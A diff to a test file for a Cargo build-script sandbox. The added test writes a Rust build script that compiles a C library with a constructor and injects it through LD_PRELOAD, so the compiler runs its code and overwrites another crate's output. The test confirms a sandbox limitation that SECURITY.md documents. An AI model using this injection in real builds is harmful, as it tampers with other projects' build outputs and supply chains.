@@ -1,7 +1,9 @@
 /** A build script that wants to change what others have built, with a wall of its own and without. */
 import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import test, { describe, it, type TestContext } from 'node:test';
-import { lockHead, type Project, plainProgram, project, type RunOptions } from '../support/rig.ts';
+import { lockHead, type Project, plainProgram, project, type RunOptions, tree } from '../support/rig.ts';
 
 /** What it tries, as Rust; `victim` is OUT_DIR of the other, `own` its own. Each must work without the wall. */
 const attacks: Readonly<Record<string, string>> = {
@@ -134,6 +136,33 @@ describe('without a wall the same build script', () => {
       assert.equal(found, 'evil');
     });
   }
+});
+
+test('around its wall gets a build script that has the compiler load its code: SECURITY.md says so', async (context) => {
+  const made = neighbours(context, {
+    'build.rs': `use std::{env, fs, process::Command};
+fn main() {
+    let (out, victim) = (env::var("OUT_DIR").unwrap(), env::var("DEP_VICTIM_OUT").unwrap());
+    assert!(fs::write(format!("{victim}/answer"), "evil").is_err());
+    fs::write(format!("{out}/evil.c"), r##"
+#include <fcntl.h>
+#include <stdlib.h>
+#include <unistd.h>
+__attribute__((constructor)) static void evil(void) {
+  char *path = getenv("VICTIM");
+  int file = path ? open(path, O_WRONLY | O_TRUNC) : -1;
+  if (file >= 0) write(file, "evil", 4);
+}"##).unwrap();
+    let made = Command::new("cc").current_dir(&out).args(["-shared", "-fPIC", "-w", "-o", "evil.so", "evil.c"]).status();
+    assert!(made.unwrap().success());
+    println!("cargo::rustc-env=LD_PRELOAD={out}/evil.so");
+    println!("cargo::rustc-env=VICTIM={victim}/answer");
+}\n`,
+  });
+  const ran = await made.boxed(['run']);
+  assert.equal(ran.status, 0, ran.text);
+  assert.equal(ran.stdout, 'evil');
+  assert.match(readFileSync(join(tree, 'SECURITY.md'), 'utf8'), /a build script that lets the compiler load its code/);
 });
 
 test('a wall is there for a cargo that a program of the project starts, too', async (context) => {
